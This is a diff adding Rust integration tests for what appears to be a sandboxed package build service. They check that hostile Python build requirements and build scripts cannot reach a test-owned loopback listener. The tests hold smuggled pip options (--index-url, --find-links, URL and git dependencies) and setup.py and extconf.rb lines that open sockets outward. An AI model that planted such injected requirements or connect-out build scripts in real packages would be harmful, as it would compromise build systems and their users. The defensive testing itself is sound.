@@ -1279,6 +1279,264 @@ async fn uploads_are_counted_per_user_and_concurrent_ones_never_pass_the_quota()
     app.stop().await;
 }
 
+/// An sdist `NAME-1.0.tar.gz` whose `build-system.requires` is `requires`
+/// and whose setup.py runs `code` first.
+fn sdist_requiring(name: &str, requires: &[String], code: &str) -> Vec<u8> {
+    let mut out = Vec::new();
+    {
+        let gz = flate2::write::GzEncoder::new(&mut out, flate2::Compression::default());
+        let mut tar = tar::Builder::new(gz);
+        let toml_list: Vec<String> = requires
+            .iter()
+            .map(|r| format!("\"{}\"", r.replace('\\', "\\\\").replace('"', "\\\"")))
+            .collect();
+        let files = [
+            ("pyproject.toml", format!("[build-system]\nrequires = [{}]\nbuild-backend = \"setuptools.build_meta\"\n", toml_list.join(", "))),
+            ("setup.py", format!("{code}\nfrom setuptools import setup\nsetup(name={name:?}, version='1.0', py_modules=[])\n")),
+            ("PKG-INFO", format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")),
+        ];
+        for (path, text) in files {
+            let mut header = tar::Header::new_gnu();
+            header.set_size(text.len() as u64);
+            header.set_mode(0o644);
+            header.set_cksum();
+            tar.append_data(&mut header, format!("{name}-1.0/{path}"), text.as_bytes())
+                .unwrap();
+        }
+        tar.into_inner().unwrap().finish().unwrap();
+    }
+    out
+}
+
+/// Publishes project `name` on the upstream index with one file at `url`
+/// (relative to the index host, or absolute), as a PEP 691 and a PEP 503 page.
+fn publish(up: &Upstreams, name: &str, filename: &str, url: &str, sha256: &str) {
+    let dir = up.tmp.path().join("index/simple").join(name);
+    std::fs::create_dir_all(&dir).unwrap();
+    let page = json!({"meta": {"api-version": "1.1"}, "name": name, "versions": ["1.0"],
+        "files": [{"filename": filename, "url": url, "hashes": {"sha256": sha256}}]});
+    std::fs::write(dir.join("index.json"), page.to_string()).unwrap();
+    std::fs::write(
+        dir.join("index.html"),
+        format!("<!DOCTYPE html>\n<html><body><a href=\"{url}#sha256={sha256}\">{filename}</a></body></html>\n"),
+    )
+    .unwrap();
+}
+
+/// A gem `NAME-1.0.0.gem` whose `ext/NAME/extconf.rb` runs `ruby` first.
+async fn gem_with_extconf(dir: &Path, name: &str, ruby: &str) -> Vec<u8> {
+    let src = dir.join(name);
+    std::fs::create_dir_all(src.join(format!("ext/{name}"))).unwrap();
+    std::fs::write(
+        src.join(format!("ext/{name}/extconf.rb")),
+        format!("{ruby}\nrequire 'mkmf'\ncreate_makefile('{name}')\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        src.join(format!("ext/{name}/{name}.c")),
+        format!("void Init_{name}(void) {{}}\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        src.join(format!("{name}.gemspec")),
+        format!(
+            "Gem::Specification.new do |s|\n  s.name = {name:?}\n  s.version = '1.0.0'\n  s.summary = 'x'\n  s.authors = ['t']\n  s.license = 'MIT'\n  s.files = ['ext/{name}/extconf.rb', 'ext/{name}/{name}.c']\n  s.extensions = ['ext/{name}/extconf.rb']\nend\n"
+        ),
+    )
+    .unwrap();
+    Cmd::new("gem")
+        .args(["build", &format!("{name}.gemspec")])
+        .current_dir(&src)
+        .limit(Duration::from_secs(60))
+        .ok()
+        .await;
+    std::fs::read(src.join(format!("{name}-1.0.0.gem"))).unwrap()
+}
+
+/// Uploads `bytes` and asks for a local build: the answer.
+async fn submit_local(
+    app: &TestApp,
+    kind: &str,
+    runtime: &str,
+    bytes: &[u8],
+) -> support::api::Answer {
+    let sha1 = sha1_hex(bytes);
+    let up = call(
+        "PUT",
+        &app.api_url(&format!("/api/v1/inbox/{sha1}")),
+        bytes.to_vec(),
+        &[],
+    )
+    .await;
+    assert_eq!(up.status, 201, "{up:?}");
+    post(
+        &app.api_url("/api/v1/builds"),
+        &json!({"location": "local", "type": kind, "name": sha1, "runtime": runtime,
+            "upload": up.json["upload"]}),
+    )
+    .await
+}
+
+#[tokio::test]
+async fn hostile_requirements_and_build_scripts_reach_nothing_but_the_cache() {
+    let Some((up, app)) = with_builds("to run builds as other uids", 62460).await else {
+        return;
+    };
+    // A listener the test owns, on the host's loopback: what a hostile build
+    // would like to reach. It counts every connection it accepts.
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let evil = listener.local_addr().unwrap();
+    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = seen.clone();
+    let acceptor = tokio::spawn(async move {
+        while let Ok((_stream, _)) = listener.accept().await {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        }
+    });
+
+    // Requirements that name a place, not a project on the index: refused
+    // when the source is handed in, with a client error that says why.
+    let hostile: Vec<Vec<String>> = vec![
+        vec![format!(
+            "pcevil @ http://{evil}/pcevil-1.0-py3-none-any.whl"
+        )],
+        vec![format!("pcevil@http://{evil}/pcevil-1.0.tar.gz")],
+        vec![format!("pcevil[extra] @ https://{evil}/pcevil.zip")],
+        vec![format!("pcevil @ git+http://{evil}/pcevil.git")],
+        vec![format!("git+http://{evil}/pcevil.git#egg=pcevil")],
+        vec![format!("http://{evil}/pcevil-1.0-py3-none-any.whl")],
+        vec![format!("file:///tmp/pcevil-1.0-py3-none-any.whl")],
+        vec!["./pcevil".into()],
+        vec!["/tmp/pcevil".into()],
+        vec![
+            "setuptools".into(),
+            format!("--index-url=http://{evil}/simple/"),
+        ],
+        vec![format!("-i http://{evil}/simple/")],
+        vec![format!(
+            "setuptools --extra-index-url http://{evil}/simple/"
+        )],
+        vec![format!("--find-links=http://{evil}/")],
+        vec![format!("setuptools -f http://{evil}/")],
+        vec!["setuptools==68.2.2 --hash=sha256:00".into()],
+        vec![format!(
+            "setuptools; python_version > '3' --index-url http://{evil}/"
+        )],
+    ];
+    for (i, requires) in hostile.iter().enumerate() {
+        let bytes = sdist_requiring(&format!("pcreq{i}"), requires, "");
+        let answer = submit_local(&app, "pip", "py311", &bytes).await;
+        let message = answer.json.as_str().unwrap_or_default();
+        assert_eq!(answer.status, 400, "{requires:?}: {answer:?}");
+        assert!(
+            message.contains("build requirement") && message.contains("index"),
+            "{requires:?}: {message}"
+        );
+    }
+    // A remote sdist with such a requirement: the job fails, the client's fault.
+    let remote = sdist_requiring(
+        "pchostile",
+        &[format!(
+            "pcevil @ http://{evil}/pcevil-1.0-py3-none-any.whl"
+        )],
+        "",
+    );
+    std::fs::create_dir_all(up.tmp.path().join("index/packages")).unwrap();
+    std::fs::write(
+        up.tmp.path().join("index/packages/pchostile-1.0.tar.gz"),
+        &remote,
+    )
+    .unwrap();
+    publish(
+        &up,
+        "pchostile",
+        "pchostile-1.0.tar.gz",
+        "../../packages/pchostile-1.0.tar.gz",
+        &sha256(&remote),
+    );
+    let answer = post(&app.api_url("/api/v1/builds"), &sdist("pchostile", "1.0")).await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    assert_eq!(job["error"]["class"], "client", "{job:#}");
+    assert!(
+        job["error"]["message"].as_str().unwrap().contains("URL"),
+        "{job:#}"
+    );
+    let load = support::api::call_with(
+        "PUT",
+        &app.api_url("/load/remote/pip/pchostile-1.0.tar.gz/py311"),
+        "",
+        &[],
+        BUILD_LIMIT,
+    )
+    .await;
+    assert_eq!(load.status, 422, "{load:?}");
+
+    // A plain requirement whose index page links elsewhere: pip follows the
+    // link from the job's network, where no such address exists.
+    publish(
+        &up,
+        "pcevil",
+        "pcevil-1.0-py3-none-any.whl",
+        &format!("http://{evil}/pcevil-1.0-py3-none-any.whl"),
+        &"0".repeat(64),
+    );
+    let answer = submit_local(
+        &app,
+        "pip",
+        "py311",
+        &sdist_requiring("pcfollows", &["pcevil".into()], ""),
+    )
+    .await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    let log = job["log_tail"].as_str().unwrap_or_default();
+    assert!(
+        log.contains("Connection refused") || log.contains("Errno 111"),
+        "{log}"
+    );
+
+    // Build scripts that connect directly: an sdist's setup.py, a gem's extconf.rb.
+    let connect = format!(
+        "import socket; socket.create_connection(('{}', {}), timeout=5)",
+        evil.ip(),
+        evil.port()
+    );
+    let answer = submit_local(
+        &app,
+        "pip",
+        "py311",
+        &sdist_requiring("pcdials", &["setuptools>=40.8.0".into()], &connect),
+    )
+    .await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    let scratch = tempfile::tempdir().unwrap();
+    let ruby = format!("require 'socket'\nbegin\n  TCPSocket.new('{}', {}).close\n  puts 'CONNECTED'\nrescue SystemCallError => e\n  abort \"no connection: #{{e.class}}\"\nend", evil.ip(), evil.port());
+    let gem = gem_with_extconf(scratch.path(), "pcdialgem", &ruby).await;
+    let answer = submit_local(&app, "gem", "ruby31", &gem).await;
+    assert_eq!(answer.status, 202, "{answer:?}");
+    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
+    assert_eq!(job["state"], "failed", "{job:#}");
+    let log = job["log_tail"].as_str().unwrap_or_default();
+    assert!(
+        log.contains("no connection") && !log.contains("CONNECTED"),
+        "{log}"
+    );
+
+    // Normal builds still fetch their requirements, through the cache.
+    built(&app, &sdist("pc_pure", "1.0")).await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let connections = seen.load(std::sync::atomic::Ordering::SeqCst);
+    eprintln!("hostile builds: the test's listener at {evil} saw {connections} connections");
+    assert_eq!(connections, 0, "a build reached {evil}");
+    acceptor.abort();
+    app.stop().await;
+}
+
 /// Live (not zombie) processes run by any uid of `uids`: "PID UID COMMAND".
 fn processes_of_uids(uids: std::ops::Range<u32>) -> Vec<String> {
     let mut found = Vec::new();
